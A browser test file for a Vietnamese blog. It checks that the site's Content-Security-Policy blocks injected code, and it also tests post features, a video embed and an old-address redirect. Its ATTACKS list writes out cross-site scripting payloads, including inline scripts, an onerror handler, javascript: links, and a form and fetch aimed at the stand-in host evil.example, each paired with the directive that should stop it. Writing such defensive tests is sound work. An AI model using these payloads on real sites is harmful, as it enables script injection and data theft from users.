"""The Content-Security-Policy in a real browser: it stops what is not the site's, and nothing that is.

What it stops by mistake is an error in the browser's console, with which `Reader` fails every test in this folder.
"""

from __future__ import annotations

from collections.abc import Iterator

import pytest
from browser_reader import DESKTOP, Reader, until
from playwright.sync_api import BrowserContext, Page, expect

EVERYTHING = "blog/du-thu/"  # the post that uses all that a post can, tests/every_feature.md
at_desk = pytest.mark.parametrize("size", [DESKTOP], ids=["desktop"])
NOTE_VIOLATIONS = """
top.violations ??= [];
document.addEventListener("securitypolicyviolation", event => top.violations.push(event.effectiveDirective));
"""
ATTACKS = [  # what an intruder would add to a page that is open, the directive that stops it
    ("add('script', {textContent: 'hit = 1'})", "script-src-elem"),
    ("add('script', {src: 'data:text/javascript,hit=1'})", "script-src-elem"),
    ("add('script', {src: 'https://evil.example/x.js'})", "script-src-elem"),
    ("add('div', {innerHTML: '<img src=x: onerror=hit=1>'})", "script-src-attr"),
    ("add('a', {href: 'javascript:hit=1'}).click()", "script-src-elem"),
    ("add('iframe', {srcdoc: '<script>parent.hit=1</scr' + 'ipt>'})", "script-src-elem"),
    ("add('iframe', {src: 'https://evil.example/'})", "frame-src"),
    ("add('base', {href: 'https://evil.example/'})", "base-uri"),
    ("add('object', {data: 'https://evil.example/x'})", "object-src"),
    ("add('form', {action: 'https://evil.example/'}).submit()", "form-action"),
    ("setTimeout(() => { try { eval('hit = 1') } catch {} })", "script-src"),
    ("fetch('https://evil.example/').catch(() => 0)", "connect-src"),
]
ADD = """
const add = (name, properties) => document.body.appendChild(Object.assign(document.createElement(name), properties));
"""


@pytest.fixture
def visited(readers: BrowserContext, home: str) -> Iterator[Page]:
    """The first post, opened by somebody whose console nobody reads; what leaves the site is answered with nothing."""
    page = readers.new_page()
    page.route(lambda url: not url.startswith(home), lambda route: route.fulfill(body=""))
    page.add_init_script(NOTE_VIOLATIONS)
    page.goto(home + "blog/tu-bo-deep-learning/")
    yield page
    page.close()


@pytest.mark.parametrize(("attack", "directive"), ATTACKS)
def test_what_is_not_the_site_s_does_not_run(visited: Page, attack: str, directive: str) -> None:
    assert visited.evaluate("violations") == []
    visited.evaluate(f"() => {{ {ADD} {attack} }}")
    until(visited, "violations.length > 0")
    assert visited.evaluate("violations")[0] == directive
    assert visited.evaluate("window.hit") is None


@at_desk
def test_everything_in_a_post_works(reader: Reader) -> None:
    page = reader.open(EVERYTHING)
    page.locator(".tabbed-labels label", has_text="Hai").click()
    expect(page.locator(".tabbed-block").nth(1)).to_be_visible()
    page.context.grant_permissions(["clipboard-read", "clipboard-write"])
    page.locator(".highlight").first.hover()
    page.locator("[data-clipboard-target], .md-code__button").first.click()
    expect(page.locator(".md-dialog")).to_contain_text("Đã sao chép")
    page.locator(".md-annotation__index").first.click()
    expect(page.locator(".md-annotation__inner, .md-tooltip").first).to_contain_text("Chú giải")
    page.locator("abbr").first.hover()
    expect(page.locator(".katex").first).to_be_visible()


@at_desk
def test_a_video_plays_once_it_is_clicked(reader: Reader) -> None:
    """The player's host is allowed on this page because the page has its video; nobody has asked it before."""
    player = "https://www.youtube-nocookie.com/embed/dQw4w9WgXcQ"
    reader.page.route(player + "*", lambda route: route.fulfill(body="<h1>Video</h1>", content_type="text/html"))
    page = reader.open(EVERYTHING)
    assert reader.problems == []
    frame = page.frame_locator(".video iframe >> nth=0")
    frame.get_by_role("link").click()
    expect(frame.get_by_role("heading", name="Video")).to_be_visible()
    assert reader.problems == [f"other host: {player}?autoplay=1"]
    reader.problems.clear()


@at_desk
def test_an_old_address_leads_on_to_the_part_that_was_asked_for(reader: Reader) -> None:
    page = reader.open("posts/bai-so-4/#muc-hai")
    expect(page).to_have_url(reader.home + "blog/bai-so-4/#m%E1%BB%A5c-hai")  # the heading that has these letters
    expect(page.locator("h1")).to_have_text("Bài số 4")
